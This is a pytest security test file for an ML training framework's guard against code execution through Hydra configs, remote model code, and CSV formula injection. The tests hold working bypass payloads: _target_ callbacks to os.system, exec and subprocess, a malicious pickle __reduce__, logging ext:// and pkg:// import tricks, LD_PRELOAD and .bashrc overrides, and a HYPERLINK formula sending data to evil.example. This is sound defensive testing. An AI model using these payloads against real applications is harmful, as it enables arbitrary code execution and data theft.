"""Config code execution, closed: every way around the guard we know of is refused before Hydra runs, and is inert.

Each walk-around below is a payload that writes a marker file the moment Hydra (or ``logging``, or an import, or
``pickle``) would run it. With the guard it must exit 2 with one message naming the key, and the marker must not
exist; ``test_the_payloads_are_live_without_the_guard`` runs the same command lines with the guard switched off and
sees every marker appear (or, for os.system, exec, subprocess and import_module, Hydra's own blocklist stop them
too), so these tests can fail. The jobs carry ``algo.lr=-1``: when a payload does get through,
the job itself stops at validation within a second.
"""

from __future__ import annotations

import logging
import os
import pickle
import sys
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Optional

import pytest

from alignzoo import plugins
from alignzoo.config import store_schema
from alignzoo.testing import TINY_OVERRIDES, make_preference_dataset
from faultkit import alignzoo_run

HEADER = "# @package _global_\n"


def callback(target: str, *args: str, extra: str = "") -> str:
    """An experiment file whose Hydra callback is ``target(*args)``."""
    listed = ", ".join(f'"{a}"' for a in args)
    return f"{HEADER}hydra:\n  callbacks:\n    evil:\n      _target_: {target}\n      _args_: [{listed}]\n{extra}"


MODULE_CODE = "import sys\nopen({marker!r}, 'w').close()\nstream = sys.stdout\nx = 1\n"


@dataclass
class WalkAround:
    id: str
    key: str  # the key the message names
    args: list[str]  # MARKER, MODULE (a module on sys.path that writes the marker when imported), DIR: tmp_path
    files: dict[str, str] = field(default_factory=dict)  # path under tmp_path -> text (same placeholders)
    env: dict[str, str] = field(default_factory=dict)
    says: str = "configs may not name import paths"
    setup: Optional[Callable[[Path, Path], None]] = None  # (tmp_path, marker)
    tiny_job: bool = True  # False: a primary config of its own, which alignzoo's overrides do not fit
    hydra_blocks: bool = False  # Hydra 1.3.8's own target blocklist stops it too (a second line of defence)


class Payload:
    """``pickle.load`` of this writes the marker (what Hydra's --experimental-rerun would do with config.pickle)."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _pickled_config(tmp: Path, marker: Path) -> None:
    (tmp / "config.pickle").write_bytes(pickle.dumps(Payload(str(marker))))


EXP = ["--config-dir", "DIR", "+experiment=evil"]

WALK_AROUNDS = [
    # route 1: an alignzoo.* prefix that walks through a module attribute into the standard library
    WalkAround("attribute-walk-run-os-system", "hydra.callbacks.evil._target_='alignzoo.run.os.system'", EXP,
               {"experiment/evil.yaml": callback("alignzoo.run.os.system", "touch MARKER")}, hydra_blocks=True),
    WalkAround("attribute-walk-cli-os-makedirs", "hydra.callbacks.evil._target_='alignzoo.cli.os.makedirs'", EXP,
               {"experiment/evil.yaml": callback("alignzoo.cli.os.makedirs", "MARKER")}, says="(it is os.makedirs)"),
    WalkAround("attribute-walk-cli-path-touch", "hydra.callbacks.evil._target_", EXP,
               {"experiment/evil.yaml": callback("alignzoo.cli.Path.touch", "MARKER")},
               says="(it is pathlib.Path.touch)"),
    WalkAround("builtins-exec", "hydra.callbacks.evil._target_='builtins.exec'", EXP,
               {"experiment/evil.yaml": callback("builtins.exec", "open('MARKER', 'w').close()")},
               hydra_blocks=True),
    WalkAround("os-system", "hydra.callbacks.evil._target_='os.system'", EXP,
               {"experiment/evil.yaml": callback("os.system", "touch MARKER")}, hydra_blocks=True),
    WalkAround("subprocess", "hydra.callbacks.evil._target_='subprocess.run'", EXP,
               {"experiment/evil.yaml": f"{HEADER}hydra:\n  callbacks:\n    evil:\n      _target_: subprocess.run\n"
                                        "      _args_: [[touch, MARKER]]\n"}, hydra_blocks=True),
    WalkAround("path-write-text", "hydra.callbacks.evil._target_='pathlib.Path.write_text'", EXP,
               {"experiment/evil.yaml": f"{HEADER}hydra:\n  callbacks:\n    evil:\n"
                                        "      _target_: pathlib.Path.write_text\n"
                                        "      _args_: [{_target_: pathlib.Path, _args_: [MARKER]}, x]\n"}),
    WalkAround("import-module", "hydra.callbacks.evil._target_='importlib.import_module'", EXP,
               {"experiment/evil.yaml": callback("importlib.import_module", "MODULE")}, hydra_blocks=True),
    WalkAround("module-never-imported-by-the-check", "hydra.callbacks.evil._target_='MODULE.x'", EXP,
               {"experiment/evil.yaml": callback("MODULE.x")}),
    WalkAround("hydra-utils-call-chain", "hydra.callbacks.evil._target_='hydra.utils.call'", EXP,
               {"experiment/evil.yaml": f"{HEADER}hydra:\n  callbacks:\n    evil:\n      _target_: hydra.utils.call\n"
                                        "      _recursive_: false\n"
                                        "      config: {_target_: pathlib.Path.touch, _args_: [MARKER]}\n"}),
    WalkAround("nested-in-alignzoos-own-callback", "hydra.callbacks.board.enabled._target_='pathlib.Path.touch'",
               EXP, {"experiment/evil.yaml": f"{HEADER}hydra:\n  callbacks:\n    board:\n"
                                             "      enabled: {_target_: pathlib.Path.touch, _args_: [MARKER]}\n"}),
    WalkAround("logging-factory", "hydra.job_logging.formatters.evil.()='pathlib.Path.touch'", EXP,
               {"experiment/evil.yaml": f"{HEADER}hydra:\n  job_logging:\n    formatters:\n      evil:\n"
                                        "        (): pathlib.Path.touch\n        self: MARKER\n"},
               says="logging configs may only name Hydra's logging classes"),
    WalkAround("logging-ext-stream", "hydra.job_logging.handlers.console.stream='ext://MODULE.stream'", EXP,
               {"experiment/evil.yaml": f"{HEADER}hydra:\n  job_logging:\n    handlers:\n      console:\n"
                                        "        stream: ext://MODULE.stream\n"},
               says="logging configs may only refer to ext://sys.stdout or ext://sys.stderr"),
    # route 2: the primary config itself, from the user's own config path
    WalkAround("primary-config-path-and-name", "hydra.callbacks.evil._target_='pathlib.Path.touch'",
               ["--config-path", "DIR", "--config-name", "mine"],
               {"mine.yaml": callback("pathlib.Path.touch", "MARKER")[len(HEADER):]}, tiny_job=False),
    WalkAround("primary-config-short-flags", "hydra.callbacks.evil._target_='pathlib.Path.touch'",
               ["-cp", "DIR", "-cn", "mine"], {"mine.yaml": callback("pathlib.Path.touch", "MARKER")[len(HEADER):]},
               tiny_job=False),
    WalkAround("config-dir-short-flag", "hydra.callbacks.evil._target_='pathlib.Path.mkdir'",
               ["-cd", "DIR", "+experiment=evil"],
               {"experiment/evil.yaml": callback("pathlib.Path.mkdir", "MARKER")}),
    WalkAround("command-line-override", "hydra.callbacks.evil._target_='pathlib.Path.touch'",
               ["+hydra.callbacks.evil={_target_:pathlib.Path.touch,_args_:['MARKER']}"]),
    # a config search path that imports a package to read configs from it
    WalkAround("searchpath-package-import", "hydra.searchpath: pkg://MODULE would import the package MODULE",
               ["hydra.searchpath=[pkg://MODULE]"], says="use file://<folder> for a folder of configs"),
    WalkAround("primary-config-searchpath-import", "hydra.searchpath: pkg://MODULE would import",
               ["-cp", "DIR", "-cn", "mine"], {"mine.yaml": "hydra:\n  searchpath: [pkg://MODULE]\n"}, tiny_job=False,
               says="which runs its code"),
    WalkAround("config-path-package-import", "the config search path entry pkg://MODULE would import",
               ["--config-path", "pkg://MODULE"], tiny_job=False, says="which runs its code"),
    # route 3: values that only become a target when resolved
    WalkAround("oc-create", "hydra.callbacks.evil._target_='pathlib.Path.touch'", EXP,
               {"experiment/evil.yaml": f"{HEADER}hydra:\n  callbacks:\n    evil: "
                                        "\"${oc.create:{_target_: pathlib.Path.touch, _args_: ['MARKER']}}\"\n"}),
    WalkAround("oc-env", "hydra.callbacks.evil._target_='pathlib.Path.touch'", EXP,
               {"experiment/evil.yaml": callback("${oc.env:AZ_EVIL_TARGET}", "MARKER")},
               env={"AZ_EVIL_TARGET": "pathlib.Path.touch"}),
    WalkAround("oc-decode-logging", "hydra.job_logging.handlers.console.stream='ext://MODULE.stream'", EXP,
               {"experiment/evil.yaml": f"{HEADER}hydra:\n  job_logging:\n    handlers:\n"
                                        "      console: \"${oc.decode:'{class: logging.StreamHandler, "
                                        "stream: ext://MODULE.stream}'}\"\n"},
               says="logging configs may only refer to ext://sys.stdout"),
    # every job of a sweep: the second value of a command-line sweep, the second value of a config's own params
    WalkAround("sweep-second-value", "hydra.job_logging.formatters.evil.()='pathlib.Path.touch'",
               ["-m", "--config-dir", "DIR", "+experiment=benign,evil"],
               {"experiment/benign.yaml": HEADER,
                "experiment/evil.yaml": f"{HEADER}hydra:\n  job_logging:\n    formatters:\n      evil:\n"
                                        "        (): pathlib.Path.touch\n        self: MARKER\n"},
               says="(in the sweep job +experiment=evil)"),
    WalkAround("sweeper-params-second-value", "hydra.job_logging.handlers.console.stream='ext://MODULE.stream'",
               ["-m", *EXP],
               {"experiment/evil.yaml": f"{HEADER}hydra:\n  sweeper:\n    params:\n"
                                        "      hydra.job_logging.handlers.console.stream: "
                                        "\"'ext://sys.stdout','ext://MODULE.stream'\"\n"},
               says="(in the sweep job hydra.job_logging.handlers.console.stream='ext://MODULE.stream')"),
    WalkAround("multirun-from-the-config", "hydra.job_logging.handlers.console.stream='ext://MODULE.stream'", EXP,
               {"experiment/evil.yaml": f"{HEADER}hydra:\n  mode: MULTIRUN\n  sweeper:\n    params:\n"
                                        "      hydra.job_logging.handlers.console.stream: "
                                        "\"'ext://sys.stdout','ext://MODULE.stream'\"\n"},
               says="logging configs may only refer to ext://sys.stdout"),
    WalkAround("experimental-rerun", "--experimental-rerun", ["--experimental-rerun", "DIR/config.pickle"],
               says="alignzoo never unpickles what it reads", setup=_pickled_config),
]


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    return make_preference_dataset(tmp_path_factory.mktemp("security") / "prefs", 40)


@pytest.fixture(autouse=True)
def _restore_logging_and_plugins():
    """A payload that got through (the live test) may have reconfigured logging; leave it as it was."""
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    yield
    root.handlers[:] = handlers
    root.setLevel(level)
    plugins.load(reload=True)


def _prepare(case: WalkAround, tmp: Path, data: Path, monkeypatch) -> tuple[list[str], Path, str]:
    marker = tmp / "MARKER-payload-ran"
    module = f"az_evil_{uuid.uuid4().hex[:12]}"
    (tmp / f"{module}.py").write_text(MODULE_CODE.format(marker=str(marker)))
    monkeypatch.syspath_prepend(str(tmp))
    monkeypatch.chdir(tmp)

    def fill(text: str) -> str:
        return text.replace("MARKER", str(marker)).replace("MODULE", module).replace("DIR", str(tmp))

    for rel, text in case.files.items():
        (tmp / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp / rel).write_text(fill(text))
    for name, value in case.env.items():
        monkeypatch.setenv(name, fill(value))
    if case.setup:
        case.setup(tmp, marker)
    job = [*TINY_OVERRIDES, "task=hf_preferences", f"task.path={data}", "algo.lr=-1"] if case.tiny_job else []
    base = [*job, f"hydra.run.dir={tmp / 'job'}", f"hydra.sweep.dir={tmp / 'sweep'}"]
    return [*map(fill, case.args), *base], marker, module


@pytest.mark.parametrize("case", WALK_AROUNDS, ids=[c.id for c in WALK_AROUNDS])
def test_a_walk_around_is_refused_before_anything_runs(case, tmp_path, data, capsys, monkeypatch):
    args, marker, module = _prepare(case, tmp_path, data, monkeypatch)
    code, err = alignzoo_run(args, capsys, monkeypatch)
    assert code == 2, err[-2000:]
    assert "Traceback" not in err
    errors = [line for line in err.splitlines() if line.startswith("alignzoo: error: ")]
    assert errors and any(case.key.replace("MODULE", module) in line for line in errors), err[-2000:]
    assert any(case.says.replace("MODULE", module) in line for line in errors), err[-2000:]
    assert not marker.exists(), "the payload ran"
    assert module not in sys.modules, "the check imported a module the config named"
    assert not (tmp_path / "job").exists() and not (tmp_path / "sweep").exists()


@pytest.mark.filterwarnings("ignore::UserWarning")  # what logging and Hydra say about the payloads' results
@pytest.mark.parametrize("case", WALK_AROUNDS, ids=[c.id for c in WALK_AROUNDS])
def test_the_payloads_are_live_without_the_guard(case, tmp_path, data, capsys, monkeypatch):
    """The same command lines with the guard switched off: every payload runs (so the test above can fail), but for
    the few that Hydra's own blocklist stops as well."""
    import alignzoo.cli

    args, marker, _ = _prepare(case, tmp_path, data, monkeypatch)
    monkeypatch.setattr(alignzoo.cli, "check_config_targets", lambda args: [])
    err = ""
    try:
        err = alignzoo_run(args, capsys, monkeypatch)[1]
    except Exception as exc:  # noqa: BLE001 - Hydra may well choke on what the payload returned; it ran all the same
        err = repr(exc)
    if case.hydra_blocks:
        assert "is blocklisted" in err and not marker.exists(), err[-3000:]
        return
    assert marker.exists(), err[-3000:]


# -- trust_remote_code: only when the user confirms it, and the record says what ran ------------------------------

CONFIG_CODE = "from transformers import GPT2Config\n\n\nclass ShippedConfig(GPT2Config):\n    pass\n"
MODEL_CODE = """open({marker!r}, "w").close()  # the model's own code ran
from transformers import GPT2LMHeadModel

from .configuration_shipped import ShippedConfig


class ShippedModel(GPT2LMHeadModel):
    config_class = ShippedConfig
"""


@pytest.fixture
def model_with_code(tmp_path, monkeypatch):
    """A local GPT-2 directory that ships its own modeling code (auto_map), which writes a marker when imported;
    transformers copies such code into a modules cache, here under tmp_path."""
    import json

    import transformers.dynamic_module_utils as dynamic
    from transformers import GPT2Config, GPT2LMHeadModel

    from alignzoo.models.base import Policy
    from alignzoo.models.tokenizer import train_bpe_tokenizer

    monkeypatch.setattr(dynamic, "HF_MODULES_CACHE", str(tmp_path / "hf-modules"))
    tok = train_bpe_tokenizer(["the movie was great and fun"] * 50 + ["the plot was dull"] * 50, 300)
    model = GPT2LMHeadModel(GPT2Config(vocab_size=len(tok), n_positions=64, n_embd=32, n_layer=1, n_head=2))
    path = tmp_path / f"shipped_{uuid.uuid4().hex[:8]}"
    Policy(model, tok).save(path)
    marker = tmp_path / "MARKER-model-code-ran"
    (path / "configuration_shipped.py").write_text(CONFIG_CODE)
    (path / "modeling_shipped.py").write_text(MODEL_CODE.format(marker=str(marker)))
    config = json.loads((path / "config.json").read_text())
    config["auto_map"] = {"AutoConfig": "configuration_shipped.ShippedConfig",
                          "AutoModelForCausalLM": "modeling_shipped.ShippedModel"}
    (path / "config.json").write_text(json.dumps(config))
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "remote.yaml").write_text(
        f"{HEADER}defaults:\n  - override /model: hf\nmodel:\n  path: {path}\n  trust_remote_code: true\n")
    return path, marker


def _remote_args(tmp_path, data) -> list[str]:
    from alignzoo.testing import TINY_RUN

    return ["--config-dir", str(tmp_path), "+experiment=remote", *TINY_RUN, "task=hf_preferences",
            f"task.path={data}", f"hydra.run.dir={tmp_path / 'job'}"]


def test_trust_remote_code_from_a_config_file_is_refused(model_with_code, tmp_path, data, capsys, monkeypatch):
    monkeypatch.delenv("ALIGNZOO_TRUST_REMOTE_CODE", raising=False)
    code, err = alignzoo_run(_remote_args(tmp_path, data), capsys, monkeypatch)
    assert code == 2 and "Traceback" not in err
    assert ("alignzoo: error: model.trust_remote_code=true comes from a config file and would run code shipped with "
            "the model; confirm it on the command line (model.trust_remote_code=true) or with "
            "ALIGNZOO_TRUST_REMOTE_CODE=1") in err
    assert not model_with_code[1].exists() and not (tmp_path / "job").exists()


def test_trust_remote_code_confirmed_runs_the_models_code_and_the_record_says_so(model_with_code, tmp_path, data,
                                                                                  capsys, monkeypatch):
    from alignzoo.cli import check_config_targets
    from alignzoo.record import read_record

    path, marker = model_with_code
    plugins.load()
    store_schema()
    args = _remote_args(tmp_path, data)
    monkeypatch.delenv("ALIGNZOO_TRUST_REMOTE_CODE", raising=False)
    assert check_config_targets([*args, "model.trust_remote_code=true"]) == []  # typed by the user: confirmed
    monkeypatch.setenv("ALIGNZOO_TRUST_REMOTE_CODE", "1")
    code, err = alignzoo_run(args, capsys, monkeypatch)
    assert code == 0, err[-3000:]
    assert marker.exists()
    notes = read_record(tmp_path / "job").notes
    ran = [n for n in notes if n.startswith(f"model.trust_remote_code=true: code shipped with {path} ran "
                                            f"(transformers_modules.{path.name}.")]
    assert len(ran) == 1 and ran[0].endswith(".modeling_shipped)"), notes  # the module carries a content hash


def test_trust_remote_code_on_a_model_without_code_says_so():
    from alignzoo.models.hf import remote_code_note

    assert remote_code_note("/m", object()) == ("model.trust_remote_code=true: /m ships no code of its own; "
                                                "transformers' own classes were used")


# -- what must still work ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("args", [
    ["algo=ppo", "seed=1"],
    ["-m", "algo=dpo,ppo", "seed=0,1", "launcher=joblib"],
    ["-m", "+experiment=zoo"],
    ["-m", "+experiment=zoo", "launcher=joblib", "budget=quick"],
    ["-m", "+experiment=frontier", "budget=quick"],
    ["-m", "+experiment=frontier_rl"],  # its sweep subdir names algo.kl_coef, which only its jobs' algo has
    ["-m", "hydra/sweeper=basic", "seed=range(0,3)"],
    ["hydra/job_logging=stdout", "hydra/hydra_logging=disabled"],
    ["hydra/job_logging=disabled"],
    ["hydra.callbacks.board.enabled=false", "+hydra.job.env_set.TOKENIZERS_PARALLELISM=false"],
    ["model=hf", "model.path=/some/model", "model.trust_remote_code=true"],  # typed by the user: their call
], ids=lambda a: " ".join(a))
def test_the_shipped_configs_launchers_and_sweeps_pass(args):
    plugins.load()
    store_schema()
    from alignzoo.cli import check_config_targets

    assert check_config_targets(args) == []


@pytest.mark.parametrize("kind", ["algo", "task", "reward", "critic", "evaluator", "logger", "labeler", "budget"])
def test_every_registered_component_passes(kind):
    from alignzoo.cli import check_config_targets

    state = plugins.load()
    store_schema()
    names = state.registries[kind].names() if kind in state.registries else {
        "labeler": ["simulated", "critic", "human"], "budget": ["smoke", "quick", "standard"]}[kind]
    for name in names:
        assert check_config_targets([f"{kind}={name}"]) == [], name


@pytest.mark.parametrize("args", [["--cfg", "job", "algo=ipo"], ["--cfg", "job", "--resolve", "algo=ipo"],
                                  ["--help", "algo=ipo"], ["--hydra-help"], ["--info", "defaults", "algo=ipo"]],
                         ids=lambda a: " ".join(a))
def test_hydras_own_commands_still_work(args, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, err = alignzoo_run(args, capsys, monkeypatch)
    assert code == 0, err[-2000:]
    assert not list(tmp_path.iterdir())  # nothing ran


def test_a_config_that_does_not_resolve_where_hydra_needs_it_is_refused(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("AZ_UNSET_TARGET", raising=False)
    code, err = alignzoo_run(["+hydra.callbacks.x._target_=${oc.env:AZ_UNSET_TARGET}"], capsys, monkeypatch)
    assert code == 2 and "Traceback" not in err
    assert "alignzoo: error: hydra.callbacks.x._target_: cannot be resolved to check what it would run (" in err
    assert "Environment variable 'AZ_UNSET_TARGET' not found" in err and "fix or remove it" in err


def test_a_job_env_may_not_load_code(capsys, monkeypatch):
    code, err = alignzoo_run(["+hydra.job.env_set.LD_PRELOAD=/tmp/x.so"], capsys, monkeypatch)
    assert code == 2
    assert "alignzoo: error: hydra.job.env_set.LD_PRELOAD: configs may not set LD_PRELOAD" in err


def test_a_log_file_must_be_a_log_file(capsys, monkeypatch):
    code, err = alignzoo_run(["hydra.job_logging.handlers.file.filename=/home/me/.bashrc"], capsys, monkeypatch)
    assert code == 2
    assert ("alignzoo: error: hydra.job_logging.handlers.file.filename='/home/me/.bashrc': a log file's name must "
            "end in .log") in err


def test_the_allowlist_holds_objects_not_names():
    from alignzoo.board.callback import BoardCallback
    from alignzoo.safety import allowlist, locate_loaded, untrusted_targets

    allow = allowlist()
    assert locate_loaded("alignzoo.board.callback.BoardCallback") is BoardCallback
    assert locate_loaded("alignzoo.cli.os.system") is os.system
    assert id(BoardCallback) in allow.targets and id(os.system) not in allow.targets
    hydra_plugins = "hydra._internal.core_plugins"
    assert untrusted_targets({"hydra": {"sweeper": {"_target_": f"{hydra_plugins}.basic_sweeper.BasicSweeper"},
                                        "launcher": {"_target_": f"{hydra_plugins}.basic_launcher.BasicLauncher"}}},
                             allow=allow) == []
    # a name under a trusted prefix that is not one of the plugin classes is still refused
    assert untrusted_targets({"_target_": f"{hydra_plugins}.basic_launcher.run_job"}, allow=allow)


# -- exported data: a record's strings never reach runs.csv as a formula -------------------------------------------

def test_runs_csv_from_hostile_records_holds_no_formula_cell(tmp_path):
    """Records as a downloaded sweep might hold them (formulas in the algo name, notes, overrides, config keys and
    metric names), through ``alignzoo board build``: read back with a CSV reader, no cell starts with a formula
    character unless it is a number the board wrote (a finite float such as -0.057 is data, not a formula)."""
    import csv
    import json

    from alignzoo.cli import main

    formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
    for i, f in enumerate(formulas):
        job = tmp_path / "runs" / f"job{i}"
        job.mkdir(parents=True)
        rec = {"run_id": f, "status": "ok", "algo": f, "task": f, "model": f, "budget": f, "seed": i,
               "config": {"seed": i, "algo": {"name": f, f: f}}, "overrides": [f, f"algo={f}"],
               "metrics": {"eval/gold_reward": -0.057 * (i + 1), f: 1.0}, "history": [], "notes": [f],
               "wall_time_s": 1.0, "tokens": 10, "started_at": f, "schema_version": 1}
        (job / "record.json").write_text(json.dumps(rec))
    with pytest.raises(SystemExit) as exit_:
        main(["board", "build", str(tmp_path / "runs"), "--out", str(tmp_path / "board")])
    assert exit_.value.code in (0, None)
    with open(tmp_path / "board" / "runs.csv", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]

    def number(cell: str) -> bool:
        try:
            return float(cell) == float(cell) and abs(float(cell)) != float("inf")
        except ValueError:
            return False

    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not number(c)] == []
    assert sum(c.startswith("'") for c in cells) >= 6 * len(formulas)  # every hostile string was neutralized
